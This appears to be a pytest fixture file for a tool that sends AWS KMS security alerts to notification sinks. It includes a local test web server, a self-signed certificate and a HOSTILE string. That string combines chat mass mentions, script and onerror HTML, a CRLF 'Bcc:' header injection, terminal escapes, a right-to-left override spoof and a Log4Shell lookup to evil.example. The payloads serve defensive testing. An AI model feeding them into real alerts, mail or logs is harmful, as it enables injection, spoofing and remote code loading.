"""Alerts to tell, hostile ones among them, and a real web server that behaves as it is told."""

from __future__ import annotations

import os
import ssl
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import ip_address
from pathlib import Path

import pytest

from keytrail.aws import AwsSettings
from keytrail.notify import Message, Reason, Sink, open_sinks
from keytrail.settings import NotifySettings

NOW = datetime(2026, 3, 7, 12, 0, tzinfo=UTC)
KEY = "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"

HOSTILE = (
    "@here @everyone <!channel> <@U123> <at>All</at> *b* _i_ `c` [x](http://evil.example/a) <http://evil.example|ok> "
    "{{DATE(2026-01-01T00:00:00Z,SHORT)}} <script>alert(1)</script> <img src=x onerror=y>\r\nBcc: eve@evil.example\r\n"
    "\r\nbody \x1b[2J \u202egnp.exe \u200b\ufeff \ud800 \x00 ${jndi:ldap://evil.example/a} www.evil.example"
)


@pytest.fixture(scope="session", autouse=True)
def _surroundings() -> Iterator[None]:
    """Credentials for the test servers; nothing of the machine's AWS configuration, and no proxy."""
    with pytest.MonkeyPatch.context() as monkeypatch:
        for name in list(os.environ):
            if name.startswith("AWS_") or name.lower().endswith("_proxy"):
                monkeypatch.delenv(name)
        monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIDTESTTESTTEST")
        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "not-a-secret")
        monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
        monkeypatch.setenv("AWS_CONFIG_FILE", "/nonexistent/config")
        monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", "/nonexistent/credentials")
        yield


def alert(
    number: int = 1, *, text: str = "", verdict: str | None = "malicious", **changes: object
) -> dict[str, object]:
    """An alert document as detect builds it; `text` stands in every place that an attacker can write to."""
    found: dict[str, object] = {
        "@timestamp": "2026-03-06T22:28:00.000Z",
        "event": {
            "kind": "signal", "id": text or f"event-{number}", "action": text or "PutKeyPolicy", "outcome": "success",
            "provider": "kms.amazonaws.com",
        },
        "cloud": {"account": {"id": "111122223333"}, "region": text or "eu-west-1"},
        "source": {"address": text or "198.51.100.7"},
        "user_agent": {"original": text or "aws-cli/2.15"},
        "aws": {
            "cloudtrail": {
                "recipient_account_id": "111122223333",
                "user_identity": {"arn": text or "arn:aws:sts::111122223333:assumed-role/Admin/mallory"},
                "resources": [{"arn": text or KEY, "type": "AWS::KMS::Key"}],
            }
        },
        "kibana.alert.uuid": f"{number:064x}",
        "kibana.alert.original_time": "2026-03-06T22:27:30.000Z",
        "kibana.alert.severity": "high",
        "kibana.alert.risk_score": 73,
        "kibana.alert.reason": text or "configuration event by mallory created high alert KMS key policy changed.",
        "kibana.alert.rule.rule_id": "kms-policy-changed",
        "kibana.alert.rule.name": text or "KMS key policy changed",
        "kibana.alert.rule.description": text or "Somebody changed the policy of a key.",
        "kibana.alert.rule.threat": [
            {
                "tactic": {"id": "TA0003", "name": text or "Persistence"},
                "technique": [{"id": "T1098", "name": text or "Account Manipulation"}],
            }
        ],
    }  # fmt: skip
    if verdict is not None:
        found["keytrail.investigation"] = {
            "schema_version": 1,
            "revision": 1,
            "verdict": verdict,
            "score": 87,
            "summary": text or "Admin/mallory let account 999988887777 decrypt with alias/orders.",
            "key": {"arn": text or KEY, "aliases": [{"name": text or "alias/orders", "current": True}]},
        }  # fmt: skip
    return found | changes


def message(number: int = 1, reason: Reason = "new", **about: object) -> Message:
    """A message about such an alert."""
    return Message(f"message-{number}-{reason}", alert(number, **about), reason)  # type: ignore[arg-type]


def hostile(number: int = 1) -> Message:
    """A message in which every text is hostile."""
    return message(number, text=HOSTILE)


def opened(table: dict[str, object], aws: AwsSettings | None = None, **notify: object) -> Sink:
    """The sink of one [[notify.sinks]] table."""
    settings = NotifySettings.model_validate({**notify, "sinks": [{"name": "ops", **table}]})
    [sink] = open_sinks(settings, aws or AwsSettings())
    return sink


@dataclass
class Request:
    """What the server got."""

    path: str
    headers: dict[str, str]
    body: bytes


@dataclass
class Reply:
    """What the server answers: `pause` seconds before it, `drip` seconds before each part, or not at all (`broken`)."""

    status: int = 200
    body: bytes = b"ok"
    headers: dict[str, str] = field(default_factory=dict)
    pause: float = 0
    drip: float = 0
    broken: bool = False


class WebServer:
    """A web server that answers as `reply` says, by default 200, and keeps what it got."""

    def __init__(self, tls: ssl.SSLContext | None = None) -> None:
        self.requests: list[Request] = []
        self.reply: Callable[[Request], Reply] = lambda request: Reply()
        self.stopping = threading.Event()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:
                outer.answer(self)

            do_GET = do_PUT = do_POST

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        if tls is not None:
            self.server.socket = tls.wrap_socket(self.server.socket, server_side=True)
        self.url = f"http{'s' if tls else ''}://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
        self.thread.start()

    def answer(self, handler: BaseHTTPRequestHandler) -> None:
        body = handler.rfile.read(int(handler.headers.get("Content-Length", 0)))
        request = Request(handler.path, dict(handler.headers), body)
        self.requests.append(request)
        reply = self.reply(request)
        if reply.broken:
            handler.close_connection = True
            handler.connection.close()
            return
        self.stopping.wait(reply.pause)
        try:
            handler.send_response(reply.status)
            handler.send_header("Content-Length", str(len(reply.body)))
            for name, value in reply.headers.items():
                handler.send_header(name, value)
            handler.end_headers()
            step = 1 if reply.drip else max(len(reply.body), 1)
            for start in range(0, len(reply.body), step):
                handler.wfile.write(reply.body[start : start + step])
                handler.wfile.flush()
                self.stopping.wait(reply.drip)
        except OSError:
            handler.close_connection = True  # the client went away, as some tests want

    def close(self) -> None:
        if self.stopping.is_set():
            return
        self.stopping.set()
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@pytest.fixture
def web() -> Iterator[WebServer]:
    server = WebServer()
    yield server
    server.close()


@dataclass(frozen=True)
class Certificate:
    """A certificate for 127.0.0.1, and the authority that signed it: itself."""

    file: Path
    key: Path

    def context(self) -> ssl.SSLContext:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.file, self.key)
        return context


@pytest.fixture(scope="session")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> Certificate:
    """A certificate that nobody trusts unless told to."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(datetime(2020, 1, 1, tzinfo=UTC))
        .not_valid_after(datetime(2120, 1, 1, tzinfo=UTC))
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ip_address("127.0.0.1"))]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    folder = tmp_path_factory.mktemp("certificate")
    found = Certificate(folder / "certificate.pem", folder / "key.pem")
    found.file.write_bytes(made.public_bytes(serialization.Encoding.PEM))
    found.key.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return found
